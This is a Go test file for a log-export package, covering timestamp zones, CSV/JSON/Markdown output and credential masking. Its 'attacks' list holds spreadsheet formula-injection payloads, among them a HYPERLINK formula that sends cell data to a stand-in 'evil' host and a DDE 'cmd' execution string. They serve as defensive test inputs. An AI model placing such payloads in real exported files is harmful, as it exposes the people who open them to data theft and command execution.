package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/logpane/logpane/app/export"
	"github.com/logpane/logpane/app/fault"
	"github.com/logpane/logpane/app/logs"
	"github.com/logpane/logpane/app/redact"
)

var berlin = time.FixedZone("Europe/Berlin", 3600)

func entry() logs.Entry {
	at := time.Date(2026, 11, 22, 23, 30, 0, 123456789, time.UTC)
	return logs.Entry{
		ID: "e1", Src: "coveo/eu/org", Time: at, TimeText: "2026-11-22T23:30:00.1234567Z",
		Level: logs.LevelError, Outcome: logs.OutcomeFailed, Summary: "no answer", Took: 1500 * time.Microsecond, HasTook: true, Status: 503,
		Job: "j1", Item: "https://shop/a|b", Request: "r1", Attempt: 2,
		Fields: logs.Fields{{Name: "stage", Value: "INDEXING"}, {Name: "delta", Value: -3.5}, {Name: "ok", Value: true}},
		Raw:    json.RawMessage("{\"z\":1.50,\r\n \"big\":12345678901234567890,\t\"a\":\"``` x\"}"),
	}
}

func write(t *testing.T, o export.Options, s export.Summary, entries ...logs.Entry) string {
	t.Helper()
	var out bytes.Buffer
	w := export.NewWriter(&out, o)
	err := w.Begin()
	for i := range entries {
		err = errors.Join(err, w.Entry(&entries[i]))
	}
	if err = errors.Join(err, w.End(s)); err != nil {
		t.Fatal(err)
	}
	if w.Entries() != len(entries) {
		t.Errorf("%d entries counted, %d written", w.Entries(), len(entries))
	}
	return out.String()
}

func TestStamp_ZoneOffsetAndTheVendorsOwnDigits(t *testing.T) {
	at := time.Date(2026, 11, 22, 23, 30, 0, 0, time.UTC)
	for _, c := range []struct {
		text string
		time time.Time
		zone *time.Location
		want string
	}{
		{"2026-11-22T23:30:00Z", at, berlin, "2026-11-23T00:30:00+01:00"},
		{"2026-11-22T23:30:00Z", at, nil, "2026-11-22T23:30:00Z"},
		{"2026-11-22T23:30:00.120Z", at.Add(120 * time.Millisecond), berlin, "2026-11-23T00:30:00.120+01:00"},
		{"2026-11-22T23:30:00.123456789Z", at.Add(123456789), berlin, "2026-11-23T00:30:00.123456789+01:00"},
		{"2026-11-22T23:30:00.1234567891234Z", at.Add(123456789), berlin, "2026-11-23T00:30:00.1234567891234+01:00"},
		{"2026-11-22T18:30:00.5-05:00", at.Add(500 * time.Millisecond), berlin, "2026-11-23T00:30:00.5+01:00"},
		{"1795390200123", at.Add(123 * time.Millisecond), berlin, "2026-11-23T00:30:00.123+01:00"},
		{"", at, time.FixedZone("", -12600), "2026-11-22T20:00:00-03:30"},
		{"", time.Time{}, berlin, ""},
		{"9999-12-31T23:59:59Z", time.Date(9999, 12, 31, 23, 59, 59, 0, time.UTC), berlin, "9999-12-31T23:59:59Z"},
	} {
		e := logs.Entry{ID: "x", Src: "s", TimeText: c.text, Time: c.time}
		b := export.AppendJSON(nil, &e, export.Options{Zone: c.zone})
		var got struct{ Time string }
		if err := json.Unmarshal(b, &got); err != nil || got.Time != c.want {
			t.Errorf("%q in %v: %q, want %q (%v)", c.text, c.zone, got.Time, c.want, err)
		}
	}
}

func TestTime_UnreadableStaysAsTheVendorWroteIt(t *testing.T) {
	e := logs.Entry{ID: "x", Src: "s", TimeText: "yesterday, perhaps"}
	got := write(t, export.Options{Format: export.CSV, Columns: []string{"time"}}, export.Summary{Complete: true}, e)
	if got != "time\r\n\"yesterday, perhaps\"\r\n" {
		t.Errorf("%q", got)
	}
	if b := export.AppendJSON(nil, &e, export.Options{}); bytes.Contains(b, []byte("time")) {
		t.Errorf("a time that is none crosses as one: %s", b)
	}
}

func TestNDJSON_OneLineEachRawAsItWas(t *testing.T) {
	e := entry()
	from := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
	got := write(t, export.Options{Format: export.NDJSON, Zone: berlin}, export.Summary{
		Reason: "the vendor stopped", Scanned: 7, Coverage: []logs.Coverage{{Src: e.Src, From: from, State: logs.Failed}},
	}, e, e)
	lines := strings.Split(strings.TrimSuffix(got, "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("%d lines:\n%s", len(lines), got)
	}
	if want := `"time":"2026-11-23T00:30:00.1234567+01:00","level":"error"`; !strings.Contains(lines[0], want) {
		t.Errorf("%s lacks %s", lines[0], want)
	}
	if want := "\"raw\":{\"z\":1.50,   \"big\":12345678901234567890,\t\"a\":\"``` x\"}}"; !strings.HasSuffix(lines[0], want) {
		t.Errorf("%s does not end with %s", lines[0], want)
	}
	want := `{"end":true,"complete":false,"reason":"the vendor stopped","entries":2,"scanned":7,"order":"newest first","zone":"Europe/Berlin","masked":true,` +
		`"coverage":[{"src":"coveo/eu/org","from":"2026-11-22T00:00:00Z","state":"failed"}]}`
	if lines[2] != want {
		t.Errorf("end\n%s, want\n%s", lines[2], want)
	}
	if e.Raw[12] != '\n' && e.Raw[11] != '\n' {
		t.Error("the entry itself was changed")
	}
}

func TestJSON_OneDocumentWithAnEntryOnEachLine(t *testing.T) {
	for n := range 4 {
		entries := make([]logs.Entry, n)
		for i := range entries {
			entries[i] = entry()
		}
		got := write(t, export.Options{Format: export.JSON, Lens: redact.Lens{Reveal: true}}, export.Summary{Complete: true}, entries...)
		var doc struct {
			Entries []logs.Entry
			End     struct {
				Complete, Masked bool
				Entries          int
			}
		}
		if err := json.Unmarshal([]byte(got), &doc); err != nil {
			t.Fatalf("%v in %s", err, got)
		}
		if len(doc.Entries) != n || doc.End.Entries != n || !doc.End.Complete || doc.End.Masked || strings.Count(got, "\n") != n+2 {
			t.Errorf("%d entries: %s", n, got)
		}
	}
}

func TestCSV_ColumnsInTheirOrderNumbersStayNumbers(t *testing.T) {
	cols, err := export.Columns([]string{"delta", "took", "target", "stage", "coveo.z", "fields", "raw", "level", "ok", "level", "nothing"})
	if err != nil {
		t.Fatal(err)
	}
	got := write(t, export.Options{Format: export.CSV, Zone: berlin, Columns: cols}, export.Summary{Reason: `it "stopped"`}, entry())
	rows, err := csv.NewReader(strings.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %s", err, got)
	}
	want := [][]string{
		{"time", "delta", "took_ms", "src", "stage", "coveo.z", "fields", "raw", "level", "ok", "nothing"},
		{"2026-11-23T00:30:00.1234567+01:00", "-3.5", "1.5", "coveo/eu/org", "INDEXING", "1.50", `{"stage":"INDEXING","delta":-3.5,"ok":true}`,
			"{\"z\":1.50,   \"big\":12345678901234567890, \"a\":\"``` x\"}", "error", "true", ""},
		{`# incomplete: it "stopped"`, "", "", "", "", "", "", "", "", "", ""},
	}
	for i, row := range rows {
		for j := range row {
			if row[j] != want[i][j] {
				t.Errorf("row %d, %s: %q, want %q", i, want[0][j], row[j], want[i][j])
			}
		}
	}
	if len(rows) != len(want) || !strings.HasSuffix(got, "\r\n") || !strings.Contains(got, ",-3.5,1.5,") {
		t.Errorf("%q", got)
	}
}

func TestColumns_WhatCannotBeOneIsRefused(t *testing.T) {
	for _, name := range []string{"", "a b", "=1", "a,b", strings.Repeat("x", 200)} {
		if _, err := export.Columns([]string{name}); fault.KindOf(err) != fault.Invalid {
			t.Errorf("%q: %v", name, err)
		}
	}
	many := make([]string, 200)
	for i := range many {
		many[i] = "f" + strings.Repeat("x", i%100) + string(rune('a'+i/100))
	}
	if _, err := export.Columns(many); fault.KindOf(err) != fault.Invalid {
		t.Errorf("200 columns: %v", err)
	}
	if cols, err := export.Columns(nil); cols != nil || err != nil {
		t.Errorf("none: %v %v", cols, err)
	}
	if cols, _ := export.Columns([]string{"level", "ts", "time"}); strings.Join(cols, " ") != "level time" {
		t.Errorf("%v", cols)
	}
}

// attacks are texts that a spreadsheet would run, or split into ones that it would.
var attacks = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, "\u00a0=1+1", `"=1+1`, `'=1+1`, `""=1+1`, ` " '=1`, "\ufeff=1",
	"＝1+1", "＋1", "－1", "＠SUM(1)", "\u200b=1", "“=1”", "\x00=1",
	`=HYPERLINK("http://evil/?"&A1,"x")`, `=cmd|' /C calc'!A0`, `a;=1+1`, "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "a; \"=1", "a;b;@x", `-`, `=`, `-5`,
}

func TestAppendCell_NothingBeginsAFormula(t *testing.T) {
	for _, text := range attacks {
		for _, separator := range []rune{',', ';', '\t'} {
			b := append(export.AppendCell([]byte("before"+string(separator)), text), "\r\n"...)
			r := csv.NewReader(bytes.NewReader(b))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, true, -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Errorf("%q: %v", text, err)
			}
			for _, row := range rows {
				for _, c := range row {
					if c = strings.TrimLeft(c, " \u00a0\ufeff\u200b\x00\"“"); c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") || strings.HasPrefix(c, "＝") {
						t.Errorf("%q between %q: the cell %q", text, separator, c)
					}
				}
			}
		}
	}
}

func TestAppendCell_OrdinaryTextIsLeftAlone(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "plain": "plain", "a,b": `"a,b"`, `say "x"`: `"say ""x"""`, "1+1=2": "1+1=2", "a-b": "a-b", "x@y": "x@y",
		"a\nb": "\"a\nb\"", "it's": "it's", "\xff": "\uFFFD", " x ": `" x "`, `\.`: `"\."`, "a; b": `"a; b"`,
	} {
		if got := string(export.AppendCell(nil, text)); got != want {
			t.Errorf("%q: %s, want %s", text, got, want)
		}
	}
}

func TestMarkdown_NothingOfAVendorIsMarkup(t *testing.T) {
	e := entry()
	e.Summary = "a|b\\|c `code` <img src=x> [link](javascript:x) **bold**\n# head\r\n| row |"
	got := write(t, export.Options{Format: export.Markdown, Zone: berlin, Columns: []string{"time", "took", "summary"}}, export.Summary{Reason: "half of it"}, e)
	want := "| time | took\\_ms | summary |\n| --- | --- | --- |\n" +
		"| 2026-11-23T00:30:00.1234567+01:00 | 1.5 | a\\|b\\\\\\|c \\`code\\` &lt;img src=x&gt; \\[link\\](javascript:x) \\*\\*bold\\*\\* \\# head \\| row \\| |\n" +
		"\n1 entry, newest first, times in Europe/Berlin, personal data and credentials masked. **Incomplete:** half of it.\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestAppendMarkdown_FenceIsLongerThanAnyWithin(t *testing.T) {
	e := entry()
	e.Fields = append(slices.Clone(e.Fields), logs.Field{Name: "attempt", Value: 2.0}) // a field of the vendor's, of a name that all share
	got := string(export.AppendMarkdown(nil, &e, export.Options{Zone: berlin}))
	want := "**no answer**\n\n| field | value |\n| --- | --- |\n| time | 2026-11-23T00:30:00.1234567+01:00 |\n| src | coveo/eu/org |\n" +
		"| level | error |\n| outcome | failed |\n| status | 503 |\n| took | 1.5 ms |\n| item | https://shop/a\\|b |\n| job | j1 |\n| request | r1 |\n" +
		"| attempt | 2 |\n| stage | INDEXING |\n| delta | -3.5 |\n| ok | true |\n| id | e1 |\n" +
		"\n````json\n{\n  \"z\": 1.50,\n  \"big\": 12345678901234567890,\n  \"a\": \"``` x\"\n}\n````\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestAppendText_OneLine(t *testing.T) {
	e := entry()
	e.Summary = "no\nanswer\x1b[31m"
	got := string(export.AppendText(nil, &e, export.Options{Zone: berlin}))
	want := `2026-11-23T00:30:00.1234567+01:00 ERROR failed coveo/eu/org: no answer\x1b[31m · status 503 · took 1.5 ms · attempt 2 · item https://shop/a|b · job j1 · request r1`
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestCredentials_MaskedInEveryForm(t *testing.T) {
	const key = "0123456789abcdef0123456789abcdef"
	e := entry()
	e.Summary = "POST /1/indexes?x-algolia-api-key=" + key
	e.Fields = logs.Fields{{Name: "url", Value: "/1/indexes?x-algolia-api-key=" + key}}
	said := export.Summary{Coverage: []logs.Coverage{{Said: "X-Algolia-API-Key: " + key}}}
	e.Raw = json.RawMessage(`{"query_headers":"X-Algolia-API-Key: ` + key + `\nHost: x"}`)
	o := export.Options{Lens: redact.Lens{Reveal: true}, Columns: []string{"summary", "url", "fields", "raw", "algolia.query_headers", "raw.query_headers"}}
	var all []byte
	for _, f := range export.Formats() {
		o.Format = f
		all = append(all, write(t, o, said, e)...)
	}
	all = export.AppendJSON(export.AppendText(export.AppendMarkdown(all, &e, o), &e, o), &e, o)
	if bytes.Contains(all, []byte(key)) || !bytes.Contains(all, []byte("[masked")) {
		t.Errorf("the key is shown:\n%s", all)
	}
}
